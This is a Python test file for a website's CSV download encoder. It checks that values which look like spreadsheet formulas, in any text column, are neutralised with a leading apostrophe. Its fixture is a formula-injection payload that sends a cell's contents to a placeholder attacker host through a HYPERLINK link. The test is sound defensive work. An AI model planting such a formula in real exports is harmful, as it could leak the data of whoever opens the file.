"""A download's CSV keeps a spreadsheet from running a cell: every column written as
text gets the leading ``'`` before a formula, whatever its Frictionless type."""

from __future__ import annotations

from datetime import timedelta

import pytest

from espresso_static.website.features.download_parts import CSV_LINE, Encoder
from espresso_static.website.features.resources import Column, Resource

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("kind", ["string", "object", "any", "array", "time", "duration"])
def test_a_formula_in_any_text_column_is_neutralised(kind):
    column = Column("cell", "cell", kind, "", required=False)
    resource = Resource("cells", "Cells", "", (column,), ("cell",), rows=1)
    table, plain = Encoder(resource).encode([1], [(FORMULA,)])
    assert table[CSV_LINE][0].as_py() == "\"'" + FORMULA.replace('"', '""') + '"\r\n'
    assert plain == [(FORMULA,)]  # the other formats keep the value


def test_numbers_and_times_stay_as_they_are():
    columns = (
        Column("size", "size", "integer", "", required=False),
        Column("wall", "wall", "duration", "", required=False),
    )
    resource = Resource("jobs", "Jobs", "", columns, ("size",), rows=1)
    table, _ = Encoder(resource).encode([1], [(-5, timedelta(hours=1))])
    assert table[CSV_LINE][0].as_py().startswith("-5,")
